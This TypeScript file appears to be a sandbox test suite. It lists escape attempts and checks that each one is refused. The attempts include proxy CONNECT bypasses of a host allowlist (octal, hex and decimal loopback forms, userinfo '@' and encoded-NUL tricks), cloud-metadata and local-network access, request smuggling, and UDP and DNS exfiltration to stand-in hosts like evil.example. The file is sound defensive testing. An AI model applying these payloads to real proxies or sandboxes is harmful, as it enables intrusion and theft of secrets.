import { createSocket } from "node:dgram";
import { lookup, Resolver } from "node:dns/promises";
import { existsSync } from "node:fs";
import { connect, createServer } from "node:net";
import type { NetConnectOpts } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Attempt, Scene } from "../attack.ts";
import { Refused } from "../attack.ts";
import { make, need } from "../inside.ts";
import { scenePolicy } from "../scene.ts";

const [AF_INET, AF_NETLINK, AF_PACKET, AF_ALG, AF_VSOCK] = [2, 16, 17, 38, 40];
const [SOCK_STREAM, SOCK_RAW, SOCK_SEQPACKET] = [1, 3, 5];
const [NETLINK_AUDIT, NETLINK_KOBJECT_UEVENT] = [9, 15];
const ANSWER_MS = 3_000;

/** Connects, sends something, and returns the complete answer. */
async function talk(to: NetConnectOpts, words: string): Promise<string> {
  const socket = connect(to);
  const chunks: Buffer[] = [];
  socket.setTimeout(ANSWER_MS, () => socket.destroy());
  socket.on("data", (chunk: Buffer) => chunks.push(chunk));
  await new Promise((done, fail) => {
    socket.once("error", fail);
    socket.once("close", done);
    socket.write(words);
  });
  return Buffer.concat(chunks).toString("latin1");
}

const GET = "GET / HTTP/1.1\r\nhost: x\r\n\r\n";

/** The decoy answers with the secret, so reading it proves access. */
function hears(name: string, numbers: readonly number[], to: (scene: Scene) => NetConnectOpts): Attempt {
  return {
    kind: "attempt",
    name,
    numbers,
    control: "plain",
    attempt: async (scene) => need((await talk(to(scene), GET)).includes(scene.secret), "an answer from outside"),
  };
}

/** The same through a proxy: ours inside, a gullible one without a sandbox. */
function tunnels(name: string, numbers: readonly number[], words: (scene: Scene) => string): Attempt {
  return {
    kind: "attempt",
    name,
    numbers,
    control: "plain",
    async attempt(scene) {
      const answer = await talk({ port: scene.proxyPort, host: "127.0.0.1" }, words(scene));
      if (answer === "") throw new Refused("no answer");
      return need(answer.includes(scene.secret), answer.split("\r\n")[0] ?? "");
    },
  };
}

const tunnelTo = (name: string, numbers: readonly number[], target: (scene: Scene) => string) =>
  tunnels(
    `a tunnel to ${name}`,
    numbers,
    (scene) => `CONNECT ${target(scene)} HTTP/1.1\r\nhost: allowed.example:443\r\n\r\n${GET}`,
  );

const refused = (error: unknown): never => {
  throw new Refused(String(error));
};

export const attacks: readonly Attack[] = [
  hears("the daemon's API by a direct connection", [22], ({ apiPort }) => ({ port: apiPort, host: "127.0.0.1" })),
  hears("the daemon's API by IPv6", [], ({ apiPort }) => ({ port: apiPort, host: "::ffff:127.0.0.1" })),
  hears("the machine by an address of its own", [27], ({ apiPort }) => ({
    port: apiPort,
    host: "127.0.0.1",
    localAddress: "127.0.0.2",
  })),
  hears("a unix socket by its path", [29], ({ socket }) => ({ path: socket })),
  hears("an abstract unix socket", [30], ({ abstractSocket }) => ({ path: `\0${abstractSocket}` })),
  tunnelTo("the daemon's API", [23], ({ apiPort }) => `127.0.0.1:${apiPort}`),
  tunnelTo("the daemon's API by the name localhost", [], ({ apiPort }) => `localhost:${apiPort}`),
  tunnelTo("the daemon's API as an address mapped into IPv6", [], ({ apiPort }) => `[::ffff:127.0.0.1]:${apiPort}`),
  tunnelTo("the daemon's API by IPv6 loopback", [], ({ apiPort }) => `[::1]:${apiPort}`),
  tunnelTo("the daemon's API as a decimal number", [], ({ apiPort }) => `2130706433:${apiPort}`),
  tunnelTo("the daemon's API in octal", [], ({ apiPort }) => `0177.0.0.1:${apiPort}`),
  tunnelTo("the daemon's API in hexadecimal", [], ({ apiPort }) => `0x7f.1:${apiPort}`),
  tunnelTo("the daemon's API as 0.0.0.0", [], ({ apiPort }) => `0.0.0.0:${apiPort}`),
  tunnelTo("the cloud's metadata", [], () => "169.254.169.254:80"),
  tunnelTo("a host in the local network", [], () => "192.168.0.1:443"),
  tunnelTo("a host that is not listed", [25], () => "evil.example:443"),
  tunnelTo("a listed host on another port", [26], () => "allowed.example:22"),
  tunnelTo("a name that only begins like a listed one", [], () => "allowed.example.evil.example:443"),
  tunnelTo("a name that only ends like a listed one", [], () => "notallowed.example:443"),
  tunnelTo("a listed name with a user in front", [], () => "allowed.example:443@evil.example:443"),
  tunnelTo("a listed name with an encoded NUL behind it", [], () => "allowed.example%00.evil.example:443"),
  tunnels(
    "the daemon's API by a plain request to the proxy",
    [24],
    ({ apiPort }) => `GET http://127.0.0.1:${apiPort}/ HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`,
  ),
  tunnels(
    "a plain request for one host with the Host header of another",
    [],
    () => "GET http://allowed.example/ HTTP/1.1\r\nhost: evil.example\r\n\r\n",
  ),
  tunnels(
    "an upgrade instead of a tunnel",
    [],
    ({ apiPort }) =>
      `GET http://127.0.0.1:${apiPort}/ HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n`,
  ),
  tunnels(
    "a second tunnel hidden behind a first request",
    [],
    ({ apiPort }) => `GET / HTTP/1.1\r\nhost: x\r\n\r\nCONNECT 127.0.0.1:${apiPort} HTTP/1.1\r\n\r\n${GET}`,
  ),
  {
    kind: "attempt",
    name: "send a datagram out",
    numbers: [28],
    control: "plain",
    async attempt({ udpPort }) {
      const socket = createSocket("udp4");
      await new Promise<void>((done, fail) =>
        socket.send("x", udpPort, "127.0.0.1", (error) => (error === null ? done() : fail(error))),
      );
      await sleep(100);
      socket.close();
      return "sent";
    },
    harm: ({ outside }) => (existsSync(join(outside, "datagram")) ? "it came out" : null),
  },
  {
    kind: "attempt",
    name: "carry data out in the name it looks up",
    numbers: [28],
    control: "plain",
    async attempt({ udpPort }) {
      const resolver = new Resolver({ timeout: 300, tries: 1 });
      resolver.setServers([`127.0.0.1:${udpPort}`]);
      await resolver.resolve4("stolen.evil.example").catch(() => undefined);
      return "asked";
    },
    harm: ({ outside }) => (existsSync(join(outside, "datagram")) ? "the question came out" : null),
  },
  {
    kind: "attempt",
    name: "look up a name with the system's resolver",
    control: { none: "it would ask the machine's name servers" },
    attempt: async () => (await lookup("example.com").catch(refused)).address,
  },
  {
    kind: "attempt",
    name: "be reached from outside on a port it listens on",
    control: "plain",
    attempt: () => {
      const outer = Object.values(networkInterfaces())
        .flat()
        .filter((each) => each !== undefined && !each.internal);
      return need(outer.length > 0, `interfaces ${outer.map((each) => each?.address).join(", ")}`);
    },
  },
  {
    kind: "attempt",
    name: "pretend to be the gateway on its port",
    control: "plain",
    // Inside it may listen on loopback, which nothing else can reach. Outside it would be the machine's loopback.
    attempt: async ({ apiPort }) => {
      const server = createServer();
      const taken = await new Promise((done) =>
        server.once("error", () => done(true)).listen(apiPort, "127.0.0.1", () => done(false)),
      );
      server.close();
      return need(taken === true, "the machine's loopback");
    },
  },
  ...(
    [
      ["AF_VSOCK, which leads out of a virtual machine", [31], [AF_VSOCK, SOCK_STREAM, 0], "plain"],
      ["raw packets", [32], [AF_PACKET, SOCK_RAW, 0x0300], "namespace"],
      ["raw internet packets", [], [AF_INET, SOCK_RAW, 1], "namespace"],
      ["netlink of the audit system", [], [AF_NETLINK, SOCK_RAW, NETLINK_AUDIT], "plain"],
      ["netlink of the machine's devices", [], [AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT], "plain"],
      ["the kernel's own cryptography (AF_ALG)", [], [AF_ALG, SOCK_SEQPACKET, 0], "plain"],
    ] as const
  ).map(([name, numbers, args, control]): Attempt => ({
    kind: "attempt",
    name: `a socket for ${name}`,
    numbers,
    control,
    attempt: () => make({ call: "socket", args: [...args] }),
  })),
  {
    kind: "play",
    name: "a refusal that nobody hears of",
    async guarded(stage) {
      const { scene } = stage;
      const script = `"$NODE" -e 'require("net").connect(3128, "127.0.0.1", function () { this.end("CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n") })'`;
      const env = { PATH: "/usr/local/bin:/usr/bin:/bin", HOME: scene.work, NODE: process.execPath };
      const policy = scenePolicy(scene, { network: ["allowed.example:443"], env });
      const { record, notes } = await stage.run({ sandbox: "enforce", argv: ["sh", "-c", script], policy });
      const isTold = record.denials.some(({ target }) => target === "evil.example:443");
      return isTold && notes.includes("evil.example:443") ? null : `nobody was told: ${JSON.stringify(record)}`;
    },
    control: { none: "an open network refuses nothing" },
  },
];
